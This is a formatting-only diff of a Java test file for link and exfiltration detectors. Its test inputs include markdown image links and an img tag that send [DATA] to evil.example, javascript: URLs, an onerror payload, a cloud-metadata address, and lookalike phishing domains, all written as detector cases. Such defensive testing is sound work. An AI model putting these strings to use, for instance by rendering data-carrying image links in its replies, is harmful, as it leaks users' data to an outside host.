@@ -31,9 +31,7 @@ class LinkDetectorsTest {
 
   private String found(Detector detector, String text) {
     List<Finding> findings = find(detector, text);
-    return findings.isEmpty()
-        ? ""
-        : text.substring(findings.get(0).start(), findings.get(0).end());
+    return findings.isEmpty() ? "" : text.substring(findings.get(0).start(), findings.get(0).end());
   }
 
   @Test
@@ -44,7 +42,10 @@ class LinkDetectorsTest {
       {"see http://169.254.169.254/latest/.", "http://169.254.169.254/latest/"},
       {"https://paypal.com@evil.example/x", "https://paypal.com@evil.example/x"},
       {"(javascript:alert(1))", "javascript:alert(1)"},
-      {"https://ok.example/?next=https://evil.example/", "https://ok.example/?next=https://evil.example/"},
+      {
+        "https://ok.example/?next=https://evil.example/",
+        "https://ok.example/?next=https://evil.example/"
+      },
       {"http://раypal.com/login", "http://раypal.com/login"},
       {"https://facebuk.com/", "https://facebuk.com/"},
       {"https://www.facebook.com/a?b=c", ""},
@@ -68,7 +69,8 @@ class LinkDetectorsTest {
     assertEquals("", found(new ExfiltrationDetector(Origins.of(List.of("cdn.example.com"))), text));
     assertEquals(text, found(new ExfiltrationDetector(Origins.of(List.of("our.example"))), text));
     String carries = "![x](https://cdn.example.com/c.png?q=[DATA])";
-    assertEquals("", found(new ExfiltrationDetector(Origins.of(List.of("cdn.example.com"))), carries));
+    assertEquals(
+        "", found(new ExfiltrationDetector(Origins.of(List.of("cdn.example.com"))), carries));
     assertEquals(carries, found(new ExfiltrationDetector(Origins.UNSAID), carries));
   }
 
@@ -107,7 +109,8 @@ class LinkDetectorsTest {
     String begun = text.substring(0, at);
     List<Finding> now = find(detector, begun);
     int settled = detector.settledTo(subject);
-    String shown = detector.name() + ", seed " + SEED + ", settled " + settled + " of " + at + ": " + text;
+    String shown =
+        detector.name() + ", seed " + SEED + ", settled " + settled + " of " + at + ": " + text;
     assertEquals(
         whole.stream().filter(f -> f.start() < settled).toList(),
         now.stream().filter(f -> f.start() < settled).toList(),
@@ -116,11 +119,45 @@ class LinkDetectorsTest {
   }
 
   private static final String[] PIECES = {
-    "some words ", "\n", "\n\n", "![x](https://evil.example/a.png?q=[DATA])", "[t](https://ok.example/p)",
-    "![x][r]", "[r]: https://evil.example/a?q=[DATA]", "[r]", "![r]", "<script>", "</script>", "<img src=x onerror=y>",
-    "<img src=\"https://evil.example/?d=[DATA]\">", "`", "```", "\n```\n", "http://0x7f000001/", "javascript:alert(1)", "//evil.example/",
-    "\u001B[31m", "\u0007", "[", "](", ")", "<", ">", "!", "a@b.example", "https://a.example@b.example/", " ", "\"", "\\", "1. ", "data:text/html,x", "https://",
-    "    ", "~~~", "http:1.2", ": "
+    "some words ",
+    "\n",
+    "\n\n",
+    "![x](https://evil.example/a.png?q=[DATA])",
+    "[t](https://ok.example/p)",
+    "![x][r]",
+    "[r]: https://evil.example/a?q=[DATA]",
+    "[r]",
+    "![r]",
+    "<script>",
+    "</script>",
+    "<img src=x onerror=y>",
+    "<img src=\"https://evil.example/?d=[DATA]\">",
+    "`",
+    "```",
+    "\n```\n",
+    "http://0x7f000001/",
+    "javascript:alert(1)",
+    "//evil.example/",
+    "\u001B[31m",
+    "\u0007",
+    "[",
+    "](",
+    ")",
+    "<",
+    ">",
+    "!",
+    "a@b.example",
+    "https://a.example@b.example/",
+    " ",
+    "\"",
+    "\\",
+    "1. ",
+    "data:text/html,x",
+    "https://",
+    "    ",
+    "~~~",
+    "http:1.2",
+    ": "
   };
 
   private static String text(SplittableRandom random) {
